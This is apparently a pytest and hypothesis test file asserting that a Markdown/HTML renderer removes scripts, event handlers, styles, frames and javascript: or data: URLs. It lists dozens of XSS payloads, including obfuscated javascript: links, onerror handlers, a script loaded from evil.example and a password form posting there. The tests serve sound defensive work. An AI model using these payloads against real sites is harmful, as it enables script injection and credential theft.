"""No script, event handler, style, frame or javascript:/data: URL survives rendering."""
from __future__ import annotations

import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.content.render import Renderer
from app.content.render_links import LinkContext
from app.content.render_sanitize import ALLOWED_TAGS

from .html_tree import parse

FORBIDDEN_TAGS = {"script", "style", "iframe", "frame", "object", "embed", "form", "svg",
                  "math", "link", "meta", "base", "textarea", "button", "select", "template"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "srcset", "cite",
                  "background", "poster", "data"}


_C0_AND_SPACE = "".join(chr(code) for code in range(0x21))


def scheme_of(url: str) -> str | None:
    """The scheme a browser sees (WHATWG URL parsing: C0 controls and spaces are trimmed
    from the ends, tabs and newlines are removed everywhere)."""
    cleaned = re.sub(r"[\t\n\r]", "", url.strip(_C0_AND_SPACE))
    match = re.match(r"^([A-Za-z][A-Za-z0-9+.\-]*):", cleaned)
    return match.group(1).lower() if match else None


def assert_safe(html: str) -> None:
    """The parsed output holds only allowed tags, no handlers/styles, no dangerous URLs."""
    for element in parse(html).iter():
        assert element.tag not in FORBIDDEN_TAGS, element
        assert element.tag in ALLOWED_TAGS, element
        for name, value in element.attrs.items():
            assert not name.startswith("on"), element
            assert name != "style", element
            if name in URL_ATTRIBUTES and value:
                assert scheme_of(value) not in {"javascript", "data", "vbscript"}, element
        if element.tag == "a" and "href" in element.attrs:
            assert element.attrs.get("rel") == "noopener noreferrer"
        if element.tag == "input":
            assert element.attrs.get("type") == "checkbox" and "disabled" in element.attrs


PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">click</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<style>body { display: none }</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<object data=\"x.swf\"></object><embed src=\"x.swf\">",
    "<form action=\"https://evil.example\"><input type=password name=p></form>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<body onload=alert(1)>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<https://example.org/\" onmouseover=\"alert(1)>",
    "`<script>` is fine as code",
    "```html\n<script>alert(1)</script>\n```",
    '<p title="x" onclick="alert(1)">p</p>',
    '<a href="#" onclick="alert(1)">a</a>',
    "<!-- <script>alert(1)</script> -->",
    '<img src="x" srcset="javascript:alert(1) 1x">',
    '<div markdown="1" onclick="alert(1)">md</div>',
    '<video><source onerror="alert(1)"></video>',
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
]


@pytest.fixture(scope="module")
def renderer():
    return Renderer()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_classic_xss_payloads_are_neutralised(renderer, payload):
    html = renderer.render(payload).html
    assert_safe(html)
    assert "<script" not in html.lower()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_stay_safe_with_link_rewriting(renderer, payload):
    links = LinkContext("01-m", (("01-m/01-a.md", "a"),))
    assert_safe(renderer.render(payload, links=links).html)


def test_code_showing_html_is_escaped_not_dropped(renderer):
    tree = parse(renderer.render("```html\n<script>alert(1)</script>\n```").html)
    assert "<script>alert(1)</script>" in tree.find_all("pre")[0].text


def test_safe_markup_is_kept(renderer):
    tree = parse(renderer.render(
        "<kbd>Ctrl</kbd> <abbr title=\"Women's Union\">WU</abbr> <mark>new</mark>\n\n"
        "[ok](https://example.org) [mail](mailto:a@example.org)").html)
    assert [e.tag for e in tree.find_all()] == ["p", "kbd", "abbr", "mark", "p", "a", "a"]
    assert tree.find_all("abbr")[0].attrs["title"] == "Women's Union"


FRAGMENTS = st.sampled_from([
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<a href='javascript:x'>",
    "</a>", "<svg onload=alert(1)>", "<iframe src=//x>", "<style>*{}</style>", "<div>",
    "</div>", "<div markdown=\"1\">", "<b onclick=x>", "<details ontoggle=x open>", "<p>",
    "\n\n", "\n", "> ", "- ", "1. ", "```\n", "~~~\n", "    ", "!!! note\n    ", "??? tip\n    ",
    "[a](javascript:alert(1))", "![i](data:image/svg+xml,<svg onload=alert(1)>)",
    "<javascript:alert(1)>", "{: onclick=alert(1) }", "{: style=\"color:red\" }",
    "{: .challenge}", ":::: solution\n", "::::\n", "> > ", "&#106;avascript:", "&lt;script&gt;",
    "\"", "'", "`", "*", "_", "[^1]", "[^1]: note\n", "| a | b |\n|---|---|\n", "<kbd>x</kbd>",
    "<input type=text>", "<form>", "<math>", "<base href=x>", "<a href=\"  java\tscript:x\">",
    "{% include links.md %}\n", "# ", "## Solution\n",
])
MARKDOWN = st.lists(st.one_of(FRAGMENTS, st.text(max_size=8)), max_size=30).map("".join)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(MARKDOWN)
def test_any_mix_of_markdown_and_html_renders_safely(text):
    renderer = Renderer()
    assert_safe(renderer.render(text).html)
    assert_safe(renderer.render(text, links=LinkContext("m", (("m/01-a.md", "a"),))).html)


@settings(max_examples=100, deadline=None)
@given(st.text())
def test_arbitrary_text_never_raises_and_is_safe(text):
    assert_safe(Renderer().render(text).html)
